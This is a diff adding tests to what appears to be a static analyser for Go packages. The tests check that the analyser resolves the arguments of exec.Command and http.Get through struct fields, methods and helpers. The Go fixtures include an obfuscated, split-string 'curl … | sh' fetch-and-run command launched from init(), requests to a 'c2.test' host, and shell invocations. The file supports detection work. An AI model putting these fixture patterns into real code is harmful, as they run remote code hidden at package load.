@@ -479,6 +479,109 @@ test('locals of a closure started with go or defer, or called in place, are reco
   }("i")
 }`);
   assert.deepEqual(argsOf(p, 'exec.Command', 0).map((r) => r.value), ['sh -c dd if=/dev/zero']);
-  // its parameter is unknown in the recording: no value is made up for it
-  assert.deepEqual(argsOf(p, 'exec.Command', 1).map((r) => r.value), []);
+  // its parameter is what the call in place passes it
+  assert.deepEqual(argsOf(p, 'exec.Command', 1).map((r) => r.value), ['id']);
+});
+
+test('struct fields: keyed and positional literals, field writes, and methods run on the struct', () => {
+  const p = body('"os/exec"\n"strings"\n"net/http"', `type cfg struct {
+  parts []string
+  host, port string
+}
+
+func (c *cfg) line() string {
+  var b strings.Builder
+  for _, p := range c.parts {
+    b.WriteString(p)
+  }
+  return b.String()
+}
+
+func (c cfg) addr() string { return "http://" + c.host + ":" + c.port }
+
+func (c cfg) setHost(h string) { c.host = h }
+
+var defaults = &cfg{parts: []string{"cu", "rl -s h", "ttp://203.0.113.9/s.sh | sh"}}
+var server = cfg{nil, "198.51.100.4", "8443"}
+
+func init() {
+  go func() { exec.Command("/bin/sh", "-c", defaults.line()).Run() }()
+  http.Get(server.addr())
+  var local cfg
+  local.host = "192.0.2.1"
+  http.Get(local.host)
+  server.setHost("example.invalid")
+  http.Get(server.host)
+  anon := struct{ u string }{u: "http://c2.test/"}
+  http.Get(anon.u)
+}
+
+func f(c *cfg) { http.Get(c.host) }`);
+  assert.deepEqual(argsOf(p, 'exec.Command').map((r) => r.value), ['/bin/sh -c curl -s http://203.0.113.9/s.sh | sh']);
+  assert.deepEqual(argsOf(p, 'http.Get', 0).map((r) => r.value), ['http://198.51.100.4:8443']);
+  assert.deepEqual(argsOf(p, 'http.Get', 1).map((r) => r.value), ['192.0.2.1']);
+  // a value receiver is a copy: the write inside setHost is not seen
+  assert.deepEqual(argsOf(p, 'http.Get', 2).map((r) => r.value), ['198.51.100.4']);
+  assert.deepEqual(argsOf(p, 'http.Get', 3).map((r) => r.value), ['http://c2.test/']);
+  // a parameter's fields are unknown
+  assert.deepEqual(argsOf(p, 'http.Get', 4).map((r) => r.value), []);
+});
+
+test('struct fields: a field written in a loop the evaluator cannot run is unknown afterwards', () => {
+  const p = body('"net/http"\n"os"', `type t struct{ u string }
+
+func init() {
+  x := t{u: "http://a.test/"}
+  for _, e := range os.Environ() {
+    x.u = e
+  }
+  http.Get(x.u)
+}`);
+  assert.deepEqual(argsOf(p, 'http.Get').map((r) => r.value), []);
+});
+
+test('struct fields: a pointer method that cannot be run leaves the struct unknown', () => {
+  const p = body('"net/http"\n"os"', `type t struct{ u string }
+
+func (x *t) set(v string) { x.u = v }
+
+func init() {
+  a := &t{u: "http://a.test/"}
+  a.set(os.Getenv("U"))
+  http.Get(a.u)
+  b := &t{u: "http://b.test/"}
+  b.set("http://c.test/")
+  http.Get(b.u)
+}`);
+  assert.deepEqual(argsOf(p, 'http.Get', 0).map((r) => r.value), []);
+  assert.deepEqual(argsOf(p, 'http.Get', 1).map((r) => r.value), ['http://c.test/']);
+});
+
+test('a helper called with known arguments: its expressions hold what the package passes it', () => {
+  const p = body('"os/exec"\n"strings"', `type handler interface{ Handle() error }
+
+type shellHandler struct {
+  shell string
+  parts []string
+}
+
+func (s shellHandler) Handle() error {
+  return exec.Command(s.shell, "-c", strings.Join(s.parts, "")).Start()
+}
+
+var h handler = shellHandler{shell: "/bin/bash", parts: []string{"id", " -u"}}
+
+var _ = h.Handle()
+
+func run(name string, args ...string) error { return exec.Command(name, args...).Start() }
+
+func setup() { run("/bin/sh", "-c", "uname -a") }
+
+func init() { setup() }
+
+func unused(name string) { exec.Command(name).Run() }`);
+  assert.deepEqual(argsOf(p, 'exec.Command', 0).map((r) => r.value), ['/bin/bash -c id -u']);
+  assert.deepEqual(argsOf(p, 'exec.Command', 1).map((r) => r.value), ['/bin/sh -c uname -a']);
+  // no caller: the parameter stays unknown
+  assert.deepEqual(argsOf(p, 'exec.Command', 2).map((r) => r.value), []);
 });
